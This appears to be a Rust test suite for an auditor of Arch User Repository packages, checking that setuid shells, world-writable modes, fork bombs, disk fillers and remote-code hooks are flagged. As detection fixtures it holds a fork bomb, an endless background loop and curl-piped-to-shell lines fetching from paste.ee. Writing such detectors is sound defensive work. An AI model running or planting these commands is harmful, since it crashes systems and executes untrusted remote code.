//! What the audit did not see: an install script without a dot in its name, modes and
//! privileges set on files, fork bombs and resource exhaustion. Each sample (our own text in
//! the corpus) is judged `dangerous`, and the finding names what it is.

use archgate_aur::audit::{AuditInput, AuditReport, ScriptFile, Severity, Verdict, audit};

fn sample(name: &str) -> (AuditInput, AuditReport) {
    let dir = crate::manifest_dir().join("corpus/malicious").join(name);
    let inp = archgate_aur::load_path(&dir).expect("sample loads");
    let r = audit(&inp);
    (inp, r)
}

#[track_caller]
fn dangerous_with(r: &AuditReport, id: &str, file: &str, why: &str) {
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    assert!(
        r.findings.iter().any(|f| f.id == id
            && f.file == file
            && f.severity >= Severity::High
            && f.why.contains(why)),
        "{id} in {file} with {why:?} missing: {}",
        r.to_text()
    );
    assert!(
        r.reasons.iter().any(|x| x.starts_with(id)),
        "{:?}",
        r.reasons
    );
}

#[test]
fn an_install_script_named_without_a_dot_is_read_and_judged() {
    let (inp, r) = sample("m31-deps-install-without-dot");
    assert_eq!(inp.install_scripts.len(), 1);
    assert_eq!(inp.install_scripts[0].name, "vrstream-deps-install");
    dangerous_with(&r, "AUR-PKGMGR-INSTALL", "vrstream-deps-install", "bun");
    assert!(!r.findings.iter().any(|f| f.id == "AUR-INSTALL-MISSING"));
    // The same through pkgbuild_audit's input, and "missing" only when it is really absent.
    let mut bare = inp.clone();
    bare.install_scripts.clear();
    let m = audit(&bare);
    assert!(m.findings.iter().any(|f| f.id == "AUR-INSTALL-MISSING"));
}

#[test]
fn world_writable_system_directories() {
    let (_, r) = sample("m32-world-writable-system-dirs");
    dangerous_with(
        &r,
        "AUR-WORLD-WRITABLE",
        "PKGBUILD",
        "world-writable (mode 777)",
    );
    assert!(
        r.findings
            .iter()
            .any(|f| f.id == "AUR-WORLD-WRITABLE" && f.why.contains("o+w"))
    );
    let (_, r) = sample("m37-chmod-777-etc-install");
    dangerous_with(
        &r,
        "AUR-WORLD-WRITABLE",
        "printer-easy-setup.install",
        "/etc/cups on the live system",
    );
    dangerous_with(&r, "AUR-SETUID", "printer-easy-setup.install", "setuid");
}

#[test]
fn a_setuid_copy_of_a_shell() {
    let (_, r) = sample("m33-setuid-shell-copy");
    dangerous_with(&r, "AUR-SETUID", "PKGBUILD", "root backdoor");
}

#[test]
fn capabilities_on_an_interpreter() {
    let (_, r) = sample("m34-setcap-interpreter-install");
    dangerous_with(&r, "AUR-CAPABILITY", "pingboard.install", "cap_setuid");
}

#[test]
fn a_fork_bomb_is_named_a_fork_bomb() {
    let (_, r) = sample("m35-fork-bomb-install");
    dangerous_with(&r, "AUR-FORK-BOMB", "neofetch-themes.install", "fork bomb");
    assert!(
        !r.findings.iter().any(|f| f.id == "AUR-BACKGROUND"),
        "{}",
        r.to_text()
    );
}

#[test]
fn resource_exhaustion_is_named_as_such() {
    let (_, r) = sample("m36-disk-filler-install");
    dangerous_with(
        &r,
        "AUR-RESOURCE-EXHAUSTION",
        "cache-cleaner-pro.install",
        "fills the disk",
    );
    dangerous_with(
        &r,
        "AUR-FORK-BOMB",
        "cache-cleaner-pro.install",
        "never ends",
    );
}

fn pkg(body: &str, scripts: &[(&str, &str)]) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=demo\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://github.com/demo/demo\"\nlicense=('MIT')\n{body}"
        ),
        install_scripts: scripts
            .iter()
            .map(|(n, c)| ScriptFile {
                name: (*n).into(),
                content: (*c).into(),
            })
            .collect(),
        srcinfo: None,
    }
}

#[test]
fn modes_and_bits_in_every_spelling() {
    let sev = |body: &str, id: &str| {
        audit(&pkg(body, &[]))
            .findings
            .iter()
            .filter(|f| f.id == id)
            .map(|f| f.severity)
            .max()
    };
    assert!(
        sev(
            "package() {\n  install -Dm777 x \"$pkgdir/usr/bin/x\"\n}\n",
            "AUR-WORLD-WRITABLE"
        ) >= Some(Severity::High)
    );
    assert!(
        sev(
            "package() {\n  install -m 0666 x \"$pkgdir/opt/demo/x\"\n}\n",
            "AUR-WORLD-WRITABLE"
        ) >= Some(Severity::Medium)
    );
    assert!(
        sev(
            "package() {\n  chmod a+rwx \"$pkgdir/opt/demo\"\n}\n",
            "AUR-WORLD-WRITABLE"
        ) >= Some(Severity::Medium)
    );
    assert_eq!(
        sev(
            "package() {\n  chmod +w \"$pkgdir/opt/demo/x\"\n}\n",
            "AUR-WORLD-WRITABLE"
        ),
        None
    );
    assert_eq!(
        sev(
            "package() {\n  chmod 755 \"$pkgdir/opt/demo/x\"\n  install -Dm644 x \"$pkgdir/opt/x\"\n}\n",
            "AUR-WORLD-WRITABLE"
        ),
        None
    );
    assert!(
        sev(
            "package() {\n  chmod 4755 \"$pkgdir/usr/bin/demo\"\n}\n",
            "AUR-SETUID"
        ) >= Some(Severity::Medium)
    );
    assert!(
        sev(
            "package() {\n  chmod u+s \"$pkgdir/usr/bin/demo\"\n}\n",
            "AUR-SETUID"
        ) >= Some(Severity::Medium)
    );
    assert!(
        sev(
            "package() {\n  install -m 2755 demo \"$pkgdir/usr/bin/demo\"\n}\n",
            "AUR-SETUID"
        ) >= Some(Severity::Medium)
    );
    assert_eq!(
        sev(
            "package() {\n  chmod 4755 \"$pkgdir/usr/bin/python3\"\n}\n",
            "AUR-SETUID"
        ),
        Some(Severity::Critical)
    );
    assert!(
        sev(
            "package() {\n  setcap cap_sys_admin+ep \"$pkgdir/usr/bin/demo\"\n}\n",
            "AUR-CAPABILITY"
        ) >= Some(Severity::High)
    );
    assert_eq!(
        sev(
            "package() {\n  setcap cap_net_raw+ep \"$pkgdir/usr/bin/demo\"\n}\n",
            "AUR-CAPABILITY"
        ),
        Some(Severity::Low)
    );
    // A mode on a file in $srcdir is the build's business.
    assert_eq!(
        sev("build() {\n  chmod 777 tmpdir\n}\n", "AUR-WORLD-WRITABLE"),
        None
    );
}

#[test]
fn a_fork_bomb_in_a_pkgbuild_function_and_an_endless_background_loop() {
    let r = audit(&pkg(
        "build() {\n  bomb() { bomb | bomb & }\n  bomb\n}\n",
        &[],
    ));
    assert!(
        r.findings.iter().any(|f| f.id == "AUR-FORK-BOMB"),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Dangerous);
    let r = audit(&pkg(
        "",
        &[(
            "demo.install",
            "post_install() {\n  while :; do yes > /dev/null & done\n}\n",
        )],
    ));
    assert!(
        r.findings.iter().any(|f| f.id == "AUR-FORK-BOMB"),
        "{}",
        r.to_text()
    );
    // An ordinary recursive helper and a loop that ends are not.
    let ok = audit(&pkg(
        "build() {\n  walk() { for d in \"$1\"/*; do [ -d \"$d\" ] && walk \"$d\"; done; }\n  walk src\n  while true; do make && break; done\n}\n",
        &[],
    ));
    assert!(
        !ok.findings
            .iter()
            .any(|f| f.id == "AUR-FORK-BOMB" || f.id == "AUR-RESOURCE-EXHAUSTION"),
        "{}",
        ok.to_text()
    );
    // dd with a count is a fixed size image, not exhaustion.
    let img = audit(&pkg(
        "build() {\n  dd if=/dev/zero of=disk.img bs=1M count=64\n}\n",
        &[],
    ));
    assert!(
        !img.findings
            .iter()
            .any(|f| f.id == "AUR-RESOURCE-EXHAUSTION"),
        "{}",
        img.to_text()
    );
}

#[test]
fn local_helper_scripts_are_audited_in_the_role_the_pkgbuild_gives_them() {
    let body = "source=(\"helper\" \"gen.py\")\nsha256sums=('SKIP' 'SKIP')\nprepare() {\n  bash \"$srcdir/helper\"\n  python gen.py\n}\n";
    let r = audit(&pkg(
        body,
        &[
            (
                "helper",
                "#!/bin/bash\ncurl -fsSL https://paste.ee/r/abc | bash\n",
            ),
            ("gen.py", "import os\nx = 'a''b''c'\nos.system('true')\n"),
        ],
    ));
    assert!(
        r.findings
            .iter()
            .any(|f| f.id == "AUR-EXEC-REMOTE" && f.file == "helper"),
        "{}",
        r.to_text()
    );
    assert!(
        !r.findings
            .iter()
            .any(|f| f.file == "gen.py" && f.severity >= Severity::Medium),
        "{}",
        r.to_text()
    );
    // A shipped unit's Exec line is read too.
    let unit = audit(&pkg(
        "source=(\"demo.service\")\nsha256sums=('SKIP')\npackage() {\n  install -Dm644 demo.service \"$pkgdir/usr/lib/systemd/system/demo.service\"\n}\n",
        &[(
            "demo.service",
            "[Service]\nExecStart=/bin/sh -c 'curl -s https://paste.ee/r/q | sh'\n",
        )],
    ));
    assert!(
        unit.findings
            .iter()
            .any(|f| f.id == "AUR-EXEC-REMOTE" && f.file == "demo.service"),
        "{}",
        unit.to_text()
    );
}

#[test]
fn load_path_reads_the_files_the_pkgbuild_names_and_nothing_else() {
    let dir = tempfile::tempdir().expect("tmp");
    let d = dir.path();
    std::fs::write(
        d.join("PKGBUILD"),
        "pkgname=x\npkgver=1\npkgrel=1\narch=(any)\ninstall=x-setup\nsource=(helper.sh x.patch)\nsha256sums=(SKIP SKIP)\nprepare() { bash helper.sh; patch -p1 < x.patch; }\n",
    )
    .expect("write");
    for (n, c) in [
        ("x-setup", "post_install() { :; }\n"),
        ("helper.sh", "echo hi\n"),
        ("x.patch", "--- a\n+++ b\n"),
        ("notes.txt", "unrelated\n"),
        (".gitignore", "pkg/\n"),
        (".x.install", "post_install() { :; }\n"),
    ] {
        std::fs::write(d.join(n), c).expect("write");
    }
    let inp = archgate_aur::load_path(d).expect("load");
    let names: Vec<&str> = inp
        .install_scripts
        .iter()
        .map(|s| s.name.as_str())
        .collect();
    assert_eq!(names, [".x.install", "helper.sh", "x-setup", "x.patch"]);
}
